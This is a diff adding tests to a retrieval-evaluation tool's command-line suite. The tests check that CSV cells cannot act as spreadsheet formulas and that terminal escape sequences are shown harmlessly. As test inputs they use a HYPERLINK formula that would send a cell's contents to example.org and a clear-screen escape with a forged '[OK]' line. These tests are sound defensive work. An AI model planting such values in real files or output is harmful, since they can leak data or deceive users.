@@ -1,5 +1,6 @@
 """The command line: its options, its sentences, its exit status, its check."""
 
+import json
 import os
 import signal
 import subprocess
@@ -71,6 +72,39 @@ def test_out_writes_tables_and_figure(tmp_path, capsys):
     assert (tmp_path / "out" / "metrics.png").read_bytes().startswith(b"\x89PNG")
 
 
+FORMULA = '=HYPERLINK("http://example.org/?"&A1,"click")'
+
+
+def test_no_cell_of_a_table_is_a_formula_and_every_text_comes_back(tmp_path, capsys):
+    titles = [FORMULA, "+1", "-1", "@SUM(A1)", "'=1", "''@x", "'quoted'", "1-2"]
+    docs = [
+        {"doc_id": f"={n}", "title": title, "content": f"-text {n}"}
+        for n, title in enumerate(titles)
+    ]
+    query = {"query_id": "@q", "question": "text?", "relevant_doc_ids": ["=0"]}
+    write_dataset(tmp_path, docs, [query])
+    options = ["--data", tmp_path, "--embeddings", "chars", "--ks", "9", "--out", tmp_path]
+    assert main([*map(str, options)]) == 0
+
+    # Nothing begins with what a spreadsheet would reckon with.
+    table = pd.read_csv(tmp_path / "results.csv", dtype=str)
+    assert len(table) == len(titles)
+    for column in ("query_id", "doc_id", "title"):
+        assert not table[column].str.contains(r"^[-=+@\t\r\n]").any()
+    assert pd.read_csv(tmp_path / "per_query.csv")["query_id"].tolist() == ["'@q"]
+
+    # The one line of the docstring gives back what was written.
+    line = command_line._no_formula.__doc__.partition("``")[2].partition("``")[0]
+    undone = eval(line, {"table": table})
+    assert undone.set_index("doc_id")["title"].sort_index().tolist() == titles
+
+
+def write_dataset(folder, docs, all_qa):
+    for name, records in (("corpus", docs), ("queries", all_qa)):
+        lines = "".join(json.dumps(record) + "\n" for record in records)
+        (folder / f"{name}.jsonl").write_text(lines)
+
+
 def test_cache_option_serves_the_second_run(tmp_path, capsys):
     for _ in range(2):
         assert main(["--cache", str(tmp_path / "results.sqlite")]) == 0
@@ -102,6 +136,41 @@ def test_the_last_words_say_what_to_do_next(capsys):
         assert word in last
     assert (ROOT / "notebooks" / "01_dataset.ipynb").exists()
     assert (ROOT / "data" / "lecture" / "README.md").exists()
+
+
+@pytest.mark.parametrize("encoding", ["ascii", "cp949"])
+def test_any_output_is_printed_to(tmp_path, encoding):
+    doc = {"doc_id": "café", "title": "caf\u00e9 \u2603", "content": "문서"}
+    query = {"query_id": "질문", "question": "why?", "relevant_doc_ids": ["café", "\u2603"]}
+    write_dataset(tmp_path, [doc], [query])
+    environment = {**os.environ, "PYTHONIOENCODING": encoding, "PYTHONUTF8": "0"}
+    run = subprocess.run(
+        [sys.executable, "-m", "rageval_kit", "--data", tmp_path, "--embeddings", "chars"],
+        cwd=ROOT,
+        env=environment,
+        capture_output=True,
+        check=False,
+    )
+    assert run.returncode == 1
+    assert b"Traceback" not in run.stderr
+    printed = run.stdout.decode(encoding)
+    assert "\\u2603" in printed
+    assert ("질문" in printed) == (encoding == "cp949")
+
+
+def test_a_query_that_would_feign_a_line_or_clear_the_screen_is_shown_as_it_is_written(
+    tmp_path, capsys
+):
+    doc = {"doc_id": "d1", "title": "A", "content": "text"}
+    query = {"query_id": "q\x1b[2J\n[OK]", "question": "why?", "relevant_doc_ids": ["d1"]}
+    write_dataset(tmp_path, [doc], [query])
+    main(["--data", str(tmp_path), "--embeddings", "chars", "--ks", "1"])
+    main(["--data", str(tmp_path), "--embeddings", "q\x1b[2J\n[OK]"])
+    captured = capsys.readouterr()
+    assert "\x1b" not in captured.out + captured.err
+    lines = (captured.out + captured.err).splitlines()
+    assert sum(line.startswith("[OK]") for line in lines) == 2  # a true one of each run
+    assert r"q\x1b[2J\n[OK]" in captured.out
 
 
 def test_help_fits_80_columns(capsys, monkeypatch):
